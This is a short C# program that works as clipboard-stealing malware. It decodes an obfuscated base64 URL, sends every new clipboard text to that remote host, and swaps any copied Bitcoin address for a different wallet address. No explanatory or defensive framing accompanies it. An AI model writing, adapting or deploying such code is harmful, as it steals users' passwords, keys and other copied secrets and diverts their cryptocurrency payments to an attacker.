using System; using System.Net; using System.Text; using System.Windows.Forms; using System.Threading;
class P {
  [STAThread] static void Main() {
    string k = "aHR0cHM6Ly9jbGlwLXN5bmMuZXhhbXBsZS5uZXQvaW4=";
    string u = Encoding.UTF8.GetString(Convert.FromBase64String(k));
    string last = "";
    while (true) {
      string t = Clipboard.ContainsText() ? Clipboard.GetText() : "";
      if (t != last && t.Length > 0) {
        last = t;
        try { new WebClient().UploadString(u, t); } catch { }
        if (System.Text.RegularExpressions.Regex.IsMatch(t, "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"))
          Clipboard.SetText("bc1qexamplewalletaddressnotreal0000000000");
      }
      Thread.Sleep(500);
    }
  }
}
